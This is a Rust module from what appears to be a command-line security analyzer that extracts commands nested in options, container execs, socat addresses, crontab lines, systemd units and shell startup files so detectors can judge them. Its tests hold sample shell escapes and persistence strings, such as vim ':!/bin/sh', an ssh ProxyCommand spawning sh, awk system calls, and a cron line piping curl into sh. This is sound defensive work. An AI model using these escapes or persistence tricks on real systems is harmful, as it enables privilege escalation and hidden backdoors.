//! Command lines carried inside a command: in an option (`find -exec`, the carriers table),
//! in interpreter code (see [`super::code`]), or written into a file that runs them
//! (`echo '..' >> ~/.bashrc`, a crontab line; the written-paths table).
//!
//! Each is handed back to the parser as a [`Payload`] and parsed one level deeper like a
//! `sh -c` string, so the same detectors judge it. Nothing here judges: a written path that
//! does not run its text (`/etc/passwd`) carries nothing, and its write is the detectors'.

use super::{code, Arg, Carried, Redirect, RedirectOp, SimpleCommand, MAX_VIA_BYTES};
use crate::knowledge::{carriers_of, written_path, Carrier, CarrierRuns, CarrierTake, WrittenText};
use crate::text::{basename, floor_char_boundary};

/// Most payloads one command hands back (the parse as a whole keeps at most
/// [`super::MAX_CARRIED`]).
const MAX_PAYLOADS_PER_COMMAND: usize = 8;

/// One carried command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Payload {
    pub carried: Carried,
    /// How the evidence names the carrier (cut to [`MAX_VIA_BYTES`]).
    pub via: String,
    pub runs: Runs,
}

/// How a payload runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Runs {
    /// A command line, parsed like `sh -c`.
    Shell(String),
    /// Words run directly.
    Argv(Vec<String>),
}

impl Payload {
    pub fn new(carried: Carried, via: impl Into<String>, runs: Runs) -> Self {
        let mut via = via.into();
        via.truncate(floor_char_boundary(&via, MAX_VIA_BYTES));
        Payload { carried, via, runs }
    }
}

/// The command lines a command carries. `source` is the command whose output it reads
/// through a pipe, if any (`echo '..' | tee -a ~/.bashrc`).
pub(super) fn carried(
    argv: &[Arg<'_>],
    redirects: &[Redirect],
    source: Option<&SimpleCommand<'_>>,
) -> Vec<Payload> {
    let mut out = Vec::new();
    let Some(arg0) = argv.first() else {
        return out;
    };
    let program = basename(arg0);
    in_options(program, argv, &mut out);
    in_container(program, argv, &mut out);
    in_socat_address(program, argv, &mut out);
    code::payloads(program, argv, &mut out);
    written(program, argv, redirects, source, &mut out);
    out.truncate(MAX_PAYLOADS_PER_COMMAND);
    out
}

/// The carriers of a program, by its basename or without a trailing version (`gcc-12`).
fn carriers(program: &str) -> &'static [&'static Carrier] {
    let found = carriers_of(program);
    if !found.is_empty() {
        return found;
    }
    let stripped = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-');
    if stripped.len() != program.len() && !stripped.is_empty() {
        return carriers_of(stripped);
    }
    // `R`, `Rscript`: names are listed in lowercase.
    if program.bytes().any(|b| b.is_ascii_uppercase()) {
        return carriers_of(&program.to_ascii_lowercase());
    }
    &[]
}

/// Command lines in option values and option words, and in operands (`data/carriers.toml`).
fn in_options(program: &str, argv: &[Arg<'_>], out: &mut Vec<Payload>) {
    let table = carriers(program);
    if table.is_empty() {
        return;
    }
    let mut i = 1;
    while i < argv.len() && out.len() < MAX_PAYLOADS_PER_COMMAND {
        let mut next = i + 1;
        for c in table {
            match c.take {
                CarrierTake::Words(until) => {
                    if c.options.contains(&argv[i].as_ref()) {
                        let end = argv[i + 1..]
                            .iter()
                            .position(|w| until.contains(&w.as_ref()))
                            .map_or(argv.len(), |n| i + 1 + n);
                        let words: Vec<String> =
                            argv[i + 1..end].iter().map(|w| w.to_string()).collect();
                        if !words.is_empty() {
                            out.push(option_payload(c, Runs::Argv(words)));
                        }
                        next = end + 1;
                        break;
                    }
                }
                CarrierTake::Value => {
                    let Some((value, used)) = option_value(argv, i, c.options) else {
                        continue;
                    };
                    next = i + used;
                    if let Some(command) = command_in_value(c, value) {
                        out.push(option_payload(c, runs(c, command)));
                        break;
                    }
                }
                CarrierTake::Operand => {
                    if argv[i].starts_with('-') {
                        continue;
                    }
                    if let Some(command) = command_in_value(c, &argv[i]) {
                        out.push(option_payload(c, runs(c, command)));
                        break;
                    }
                }
            }
        }
        i = next;
    }
}

/// How a carrier runs the command it holds.
fn runs(c: &Carrier, command: String) -> Runs {
    match c.runs {
        CarrierRuns::Shell => Runs::Shell(command),
        CarrierRuns::Argv => {
            Runs::Argv(command.split_ascii_whitespace().map(String::from).collect())
        }
        CarrierRuns::CommaArgv => Runs::Argv(
            command
                .split(',')
                .filter(|w| !w.is_empty())
                .map(String::from)
                .collect(),
        ),
    }
}

fn option_payload(c: &Carrier, runs: Runs) -> Payload {
    Payload::new(Carried::Option, format!("run by {}", c.label), runs)
}

/// The value of the option at `argv[i]` if it is one of `options`, with the number of words
/// it took: `-o VALUE` (2), `--opt=VALUE` and `-opt=VALUE` (1), `-oVALUE` for a one-letter
/// option (1).
fn option_value<'w>(argv: &'w [Arg<'_>], i: usize, options: &[&str]) -> Option<(&'w str, usize)> {
    let w: &str = argv.get(i)?;
    for o in options {
        if w == *o {
            return argv.get(i + 1).map(|v| (v.as_ref(), 2));
        }
        if let Some(rest) = w.strip_prefix(o) {
            if o.len() > 2 {
                if let Some(v) = rest.strip_prefix('=') {
                    return Some((v, 1));
                }
            } else if !rest.is_empty() {
                return Some((rest, 1));
            }
        }
    }
    None
}

/// The command in an option value or operand: after the carrier's key (`ProxyCommand=`) or
/// prefix (`:!`), inside one of its calls (`system("..")`), or the whole value when it has
/// none of these. `None` when the value is not a command.
fn command_in_value(c: &Carrier, value: &str) -> Option<String> {
    let command = if let Some(key) = c.key {
        let head = value.get(..key.len())?;
        let same = if c.key_nocase {
            head.eq_ignore_ascii_case(key)
        } else {
            head == key
        };
        if !same {
            return None;
        }
        let rest = &value[key.len()..];
        let rest = rest.strip_prefix("::").unwrap_or(rest);
        rest.strip_prefix('=')
            .or_else(|| rest.strip_prefix(' '))?
            .to_string()
    } else if !c.prefixes.is_empty() {
        c.prefixes
            .iter()
            .find_map(|p| value.strip_prefix(p))?
            .to_string()
    } else if !c.calls.is_empty() {
        c.calls.iter().find_map(|call| in_call(value, call))?
    } else {
        value.to_string()
    };
    let command = command.trim();
    (!command.is_empty()).then(|| command.to_string())
}

/// The command inside `call` in `text`: up to the bracket or quote that closes the call's
/// last character (`system(` .. `)`, `\write18{` .. `}`, `` run(` `` .. `` ` ``), or to the
/// end of the statement; its string literals when it has any.
fn in_call(text: &str, call: &str) -> Option<String> {
    let at = text.find(call)?;
    let rest = &text[at + call.len()..];
    let end = match call.as_bytes().last() {
        Some(b'(') => code::closing(rest, b'(', b')'),
        Some(b'{') => code::closing(rest, b'{', b'}'),
        Some(&q @ (b'`' | b'"' | b'\'')) => rest.bytes().position(|b| b == q),
        _ => rest.find([')', ';', '\n']),
    }
    .unwrap_or(rest.len());
    let inner = &rest[..end];
    let literals = code::literals(inner);
    Some(if literals.is_empty() {
        inner.to_string()
    } else {
        literals.join(" ")
    })
}

/// socat's `EXEC:PROGRAM ARGS,options` and `SYSTEM:COMMAND,options` addresses: the
/// command is up to the first comma (socat's address-option separator).
fn in_socat_address(program: &str, argv: &[Arg<'_>], out: &mut Vec<Payload>) {
    if program != "socat" {
        return;
    }
    for a in argv
        .iter()
        .skip(1)
        .filter(|a| !a.starts_with('-') || a.len() > 1 && a.contains(':'))
    {
        let Some((kind, rest)) = a.split_once(':') else {
            continue;
        };
        let runs = if kind.eq_ignore_ascii_case("exec") {
            "exec:"
        } else if kind.eq_ignore_ascii_case("system") {
            "system:"
        } else {
            continue;
        };
        let command = rest.split(',').next().unwrap_or("").trim();
        if !command.is_empty() && out.len() < MAX_PAYLOADS_PER_COMMAND {
            out.push(Payload::new(
                Carried::Option,
                format!("run by socat {runs}"),
                Runs::Shell(command.to_string()),
            ));
        }
    }
}

/// The command a container CLI runs in a container: `docker exec [OPTIONS] CONTAINER CMD..`,
/// `docker run [OPTIONS] IMAGE CMD..` (podman and nerdctl alike), `kubectl exec POD -- CMD..`.
fn in_container(program: &str, argv: &[Arg<'_>], out: &mut Vec<Payload>) {
    let args = argv.get(1..).unwrap_or_default();
    match program {
        "docker" | "podman" | "nerdctl" => {
            // Global options before the subcommand that take a value.
            let mut i = skip_options(
                args,
                0,
                &[
                    "-H",
                    "--host",
                    "-c",
                    "--context",
                    "--config",
                    "-l",
                    "--log-level",
                ],
            );
            if args.get(i).is_some_and(|a| a == "container") {
                i += 1;
            }
            let verb = match args.get(i).map(|a| a.as_ref()) {
                Some(v @ ("exec" | "run")) => v,
                _ => return,
            };
            let takes: &[&str] = if verb == "exec" {
                DOCKER_EXEC_VALUES
            } else {
                DOCKER_RUN_VALUES
            };
            let at = skip_options(args, i + 1, takes);
            let (Some(target), Some(rest)) = (args.get(at), args.get(at + 1..)) else {
                return;
            };
            if rest.is_empty() {
                return;
            }
            let via = if verb == "exec" {
                format!("run by {program} exec in container {target}")
            } else {
                format!("run by {program} run in a new container of {target}")
            };
            out.push(Payload::new(
                Carried::Container,
                via,
                Runs::Argv(rest.iter().map(|w| w.to_string()).collect()),
            ));
        }
        "kubectl" | "oc" => {
            if args.first().is_none_or(|a| a != "exec") {
                return;
            }
            let Some(dashes) = args.iter().position(|a| a == "--") else {
                return;
            };
            let at = skip_options(args, 1, KUBECTL_EXEC_VALUES);
            let pod = args[..dashes].get(at).map_or("?", |a| a.as_ref());
            let rest = &args[dashes + 1..];
            if !rest.is_empty() {
                out.push(Payload::new(
                    Carried::Container,
                    format!("run by {program} exec in pod {pod}"),
                    Runs::Argv(rest.iter().map(|w| w.to_string()).collect()),
                ));
            }
        }
        _ => {}
    }
}

/// `docker exec` options that take a value (docker container exec --help).
const DOCKER_EXEC_VALUES: &[&str] = &[
    "-e",
    "--env",
    "--env-file",
    "-u",
    "--user",
    "-w",
    "--workdir",
    "--detach-keys",
];
/// `docker run` options that take a value (docker container run --help); a long option not
/// listed is read as a flag.
const DOCKER_RUN_VALUES: &[&str] = &[
    "-a",
    "--attach",
    "--add-host",
    "--blkio-weight",
    "--cap-add",
    "--cap-drop",
    "--cgroup-parent",
    "--cgroupns",
    "--cidfile",
    "--cpu-period",
    "--cpu-quota",
    "--cpu-shares",
    "-c",
    "--cpus",
    "--cpuset-cpus",
    "--cpuset-mems",
    "--device",
    "--dns",
    "--dns-option",
    "--dns-search",
    "--entrypoint",
    "-e",
    "--env",
    "--env-file",
    "--expose",
    "--gpus",
    "--group-add",
    "--health-cmd",
    "--health-interval",
    "--health-retries",
    "--health-timeout",
    "-h",
    "--hostname",
    "--ip",
    "--ip6",
    "--ipc",
    "--isolation",
    "-l",
    "--label",
    "--label-file",
    "--link",
    "--log-driver",
    "--log-opt",
    "--mac-address",
    "-m",
    "--memory",
    "--memory-reservation",
    "--memory-swap",
    "--mount",
    "--name",
    "--network",
    "--net",
    "--network-alias",
    "--pid",
    "--pids-limit",
    "--platform",
    "-p",
    "--publish",
    "--pull",
    "--restart",
    "--runtime",
    "--security-opt",
    "--shm-size",
    "--stop-signal",
    "--stop-timeout",
    "--storage-opt",
    "--sysctl",
    "--tmpfs",
    "--ulimit",
    "-u",
    "--user",
    "--userns",
    "--uts",
    "-v",
    "--volume",
    "--volume-driver",
    "--volumes-from",
    "-w",
    "--workdir",
];
/// `kubectl exec` options that take a value.
const KUBECTL_EXEC_VALUES: &[&str] = &[
    "-c",
    "--container",
    "-n",
    "--namespace",
    "--context",
    "-f",
    "--filename",
    "--pod-running-timeout",
    "--kubeconfig",
    "--cluster",
    "--user",
    "-s",
    "--server",
];

/// The index of the first operand at or after `i`, skipping options (and the values of
/// those in `takes`; `--opt=value` and `-vVALUE` carry their own).
fn skip_options(args: &[Arg<'_>], mut i: usize, takes: &[&str]) -> usize {
    while let Some(a) = args.get(i) {
        if a == "--" {
            return i + 1;
        }
        if !a.starts_with('-') || a.len() < 2 {
            return i;
        }
        i += if takes.contains(&a.as_ref()) { 2 } else { 1 };
    }
    i
}

/// Text written into a file that runs it: `echo`/`printf` redirected there, or piped into
/// `tee` on it, and lines fed to `crontab`.
fn written(
    program: &str,
    argv: &[Arg<'_>],
    redirects: &[Redirect],
    source: Option<&SimpleCommand<'_>>,
    out: &mut Vec<Payload>,
) {
    let args = argv.get(1..).unwrap_or_default();
    // The text this command writes, and where.
    let (text, targets): (Option<String>, Vec<&str>) = match program {
        "echo" | "printf" => (
            printed(program, args),
            redirects
                .iter()
                .filter(|r| {
                    matches!(r.op, RedirectOp::Out | RedirectOp::Append)
                        && matches!(r.fd, None | Some(1))
                })
                .map(|r| r.target.as_str())
                .collect(),
        ),
        "tee" => (
            source.and_then(|s| printed(s.program(), s.argv.get(1..).unwrap_or_default())),
            args.iter()
                .filter(|a| !a.starts_with('-'))
                .map(|a| a.as_ref())
                .collect(),
        ),
        "crontab" => {
            // `crontab -` or `crontab` alone reads the table from stdin.
            let from_stdin = args
                .iter()
                .all(|a| a == "-" || a == "-u" || !a.starts_with('-'))
                && args.iter().filter(|a| !a.starts_with('-')).count() <= 1;
            let text = redirects
                .iter()
                .find(|r| r.op == RedirectOp::HereDoc)
                .map(|r| r.target.clone())
                .or_else(|| {
                    source.and_then(|s| printed(s.program(), s.argv.get(1..).unwrap_or_default()))
                });
            if let (true, Some(text)) = (from_stdin, text) {
                push_written(out, "in a crontab line", WrittenText::Cron, &text);
            }
            return;
        }
        _ => return,
    };
    let Some(text) = text else { return };
    for target in targets {
        let Some(w) = written_path(target) else {
            continue;
        };
        if w.text != WrittenText::None {
            push_written(out, &format!("written into {target}"), w.text, &text);
        }
    }
}

fn push_written(out: &mut Vec<Payload>, via: &str, kind: WrittenText, text: &str) {
    let command = match kind {
        WrittenText::None => return,
        WrittenText::Shell => text.to_string(),
        WrittenText::Cron => cron_commands(text, 0),
        WrittenText::CronUser => cron_commands(text, 1),
        WrittenText::Systemd => systemd_commands(text),
    };
    if !command.trim().is_empty() && out.len() < MAX_PAYLOADS_PER_COMMAND {
        out.push(Payload::new(Carried::Written, via, Runs::Shell(command)));
    }
}

/// What `echo`/`printf` prints, as far as the command line shows it: echo's words (after
/// its options), printf's format, or its arguments when the format has conversions.
fn printed(program: &str, args: &[Arg<'_>]) -> Option<String> {
    match program {
        "echo" => {
            let mut escapes = false;
            let mut words = args.iter().peekable();
            while let Some(w) = words.peek() {
                match w.as_ref() {
                    "-n" | "-E" => {}
                    "-e" | "-ne" | "-en" => escapes = true,
                    _ => break,
                }
                words.next();
            }
            let text = words.map(|w| w.as_ref()).collect::<Vec<_>>().join(" ");
            Some(if escapes { unescape(&text) } else { text })
        }
        "printf" => {
            let format = args.first()?;
            if format.contains('%') && args.len() > 1 {
                Some(
                    args[1..]
                        .iter()
                        .map(|a| a.as_ref())
                        .collect::<Vec<_>>()
                        .join("\n"),
                )
            } else {
                Some(unescape(format))
            }
        }
        _ => None,
    }
}

/// `\n` and `\t` as echo -e and printf write them.
fn unescape(s: &str) -> String {
    s.replace("\\n", "\n").replace("\\t", "\t")
}

/// The commands of crontab lines: each line's fields after the five time fields (or one
/// `@reboot`-style field) and `user_fields` more; comments and `VAR=value` lines skipped.
fn cron_commands(text: &str, user_fields: usize) -> String {
    let mut out = String::new();
    for line in text.lines() {
        let line = line.trim_start();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let first = line.split_ascii_whitespace().next().unwrap_or("");
        if first.contains('=') && !first.starts_with('@') {
            continue;
        }
        let fields = if first.starts_with('@') { 1 } else { 5 } + user_fields;
        let mut rest = line;
        for _ in 0..fields {
            rest = rest.trim_start();
            rest = rest
                .find(|c: char| c.is_ascii_whitespace())
                .map_or("", |i| &rest[i..]);
        }
        if !rest.trim().is_empty() {
            out.push_str(rest.trim());
            out.push('\n');
        }
    }
    out
}

/// The commands of a systemd unit's `Exec*=` lines, without their `-@:+!` prefixes.
fn systemd_commands(text: &str) -> String {
    let mut out = String::new();
    for line in text.lines() {
        let line = line.trim();
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        if matches!(
            key.trim(),
            "ExecStart"
                | "ExecStartPre"
                | "ExecStartPost"
                | "ExecStop"
                | "ExecStopPost"
                | "ExecReload"
        ) {
            out.push_str(value.trim().trim_start_matches(['-', '@', ':', '+', '!']));
            out.push('\n');
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cron_lines_lose_their_schedule_and_user() {
        assert_eq!(
            cron_commands("*/5 * * * * curl -s x | sh\n# c\nMAILTO=a\n", 0),
            "curl -s x | sh\n"
        );
        assert_eq!(cron_commands("@reboot root /tmp/x -d", 1), "/tmp/x -d\n");
        assert_eq!(cron_commands("* * * * *", 0), "");
    }

    #[test]
    fn systemd_units_give_their_exec_lines() {
        assert_eq!(
            systemd_commands("[Service]\nExecStart=-/bin/bash -c 'id'\nUser=root\n"),
            "/bin/bash -c 'id'\n"
        );
    }

    #[test]
    fn keys_and_prefixes_select_the_command() {
        let find = |p: &str, o: &str| {
            carriers(p)
                .iter()
                .find(|c| c.options.contains(&o))
                .copied()
                .expect("carrier")
        };
        let ssh = carriers("ssh")
            .iter()
            .find(|c| c.key == Some("ProxyCommand"))
            .expect("ProxyCommand");
        let some = |s: &str| Some(s.to_string());
        assert_eq!(
            command_in_value(ssh, "proxycommand=;sh 0<&2"),
            some(";sh 0<&2")
        );
        assert_eq!(
            command_in_value(ssh, "ProxyCommand nc %h %p"),
            some("nc %h %p")
        );
        assert_eq!(command_in_value(ssh, "ProxyCommandX=y"), None);
        assert_eq!(command_in_value(ssh, "StrictHostKeyChecking=no"), None);
        let apt = carriers("apt-get")
            .iter()
            .find(|c| c.key == Some("APT::Update::Pre-Invoke"))
            .expect("apt");
        assert_eq!(
            command_in_value(apt, "APT::Update::Pre-Invoke::=/bin/sh"),
            some("/bin/sh")
        );
        let vim = find("vim", "-c");
        assert_eq!(command_in_value(vim, ":!/bin/sh"), some("/bin/sh"));
        assert_eq!(command_in_value(vim, ":wq"), None);
        assert_eq!(carriers("gcc-12").len(), carriers("gcc").len());
    }

    #[test]
    fn calls_hold_their_command() {
        assert_eq!(
            in_call("BEGIN {system(\"/bin/sh\")}", "system(").as_deref(),
            Some("/bin/sh")
        );
        assert_eq!(
            in_call("$(shell /bin/sh 1>&0)", "$(shell ").as_deref(),
            Some("/bin/sh 1>&0")
        );
        assert_eq!(
            in_call("\\write18{/bin/sh}\\end", "\\write18{").as_deref(),
            Some("/bin/sh")
        );
        assert_eq!(
            in_call("run(`/bin/sh`)", "run(`").as_deref(),
            Some("/bin/sh")
        );
        assert_eq!(in_call("print(1)", "system("), None);
    }
}
